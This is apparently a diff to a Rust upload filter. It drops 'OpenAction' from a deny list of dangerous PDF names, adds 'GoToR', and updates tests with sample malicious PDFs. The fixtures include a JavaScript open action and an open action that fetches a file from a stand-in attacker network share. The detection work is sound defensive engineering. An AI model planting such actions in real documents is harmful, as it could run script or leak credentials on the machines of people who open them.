@@ -284,14 +284,19 @@ const ACTIVE_MARKERS: &[&[u8]] = &[
 ];
 
 /// PDF names that make a document act when opened or used: run script (`JavaScript`,
-/// `JS`, `Rendition`), trigger actions (`OpenAction`, `AA`), start programs (`Launch`),
-/// send or load data (`SubmitForm`, `ImportData`), carry other files
-/// (`EmbeddedFile(s)`, `GoToE`, `RichMedia`) or XFA forms (which hold script).
+/// `JS`, `Rendition`), trigger actions on events (`AA`), start programs (`Launch`),
+/// send or load data (`SubmitForm`, `ImportData`), open other files (`GoToR`, which
+/// can reach a network share, `GoToE`, `EmbeddedFile(s)`, `RichMedia`) or hold XFA
+/// forms (which hold script).
+///
+/// `OpenAction` itself is not here: most generators (LaTeX's hyperref among them) use
+/// it to open at a page (`/S /GoTo`), and an opening action that does harm is one of
+/// the types above. What passes: an opening action that follows a link (`/S /URI`),
+/// which viewers ask about first.
 const PDF_ACTIVE_NAMES: &[&str] = &[
     "JavaScript",
     "JS",
     "Rendition",
-    "OpenAction",
     "AA",
     "Launch",
     "SubmitForm",
@@ -299,6 +304,7 @@ const PDF_ACTIVE_NAMES: &[&str] = &[
     "EmbeddedFile",
     "EmbeddedFiles",
     "GoToE",
+    "GoToR",
     "RichMedia",
     "XFA",
 ];
@@ -1341,7 +1347,7 @@ mod tests {
         pdf_js.extend_from_slice(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>");
         assert_eq!(
             policy.check("a.pdf", &pdf_js),
-            Err(UploadError::PdfActiveContent("OpenAction".into()))
+            Err(UploadError::PdfActiveContent("JavaScript".into()))
         );
         // Any case, anywhere in the file, and only a PDF's features in a PDF.
         let mut deep = gif.to_vec();
@@ -1748,9 +1754,9 @@ mod tests {
                 pdf_with(&object_stream(
                     3,
                     "/Filter /Fl#61teDecode",
-                    b"4 0 << /OpenAction 5 0 R >>",
+                    b"4 0 << /OpenAction << /S /GoToR /F (//attacker/share/x.pdf) >> >>",
                 )),
-                "OpenAction",
+                "GoToR",
             ),
             (
                 "object stream whose header is faked in a string",
@@ -1915,6 +1921,13 @@ mod tests {
         let cost = inspect_pdf(&doc).unwrap();
         assert_eq!(cost.object_streams, 2);
         assert!(cost.inflated_bytes < 200);
+        // Opening at a page is what most generators do; it passes.
+        let opens_at_page = pdf_with(&object_stream(
+            3,
+            "/Filter /FlateDecode",
+            b"4 0 << /Type /Catalog /OpenAction << /S /GoTo /D [5 0 R /Fit] >> >>",
+        ));
+        assert_eq!(policy.check("book.pdf", &opens_at_page), Ok(FileKind::Pdf));
         // Outlines (`/First`) and appearances (`/N`) before an image stream do not
         // make it an object stream.
         let classic = pdf_with(b"3 0 obj\n<< /Type /Outlines /First 4 0 R /Count 1 >>\nendobj\n5 0 obj\n<< /Type /Annot /AP << /N 6 0 R >> >>\nendobj\n7 0 obj\n<< /Subtype /Image /Filter /DCTDecode /DecodeParms << /ColorTransform 0 >> /Length 4 >>\nstream\n\xff\xd8\xff\xd9\nendstream\nendobj\n8 0 obj\n<< /N 3 /Filter /FlateDecode /DecodeParms << /Predictor 15 >> /Length 2 >>\nstream\nxx\nendstream\nendobj");
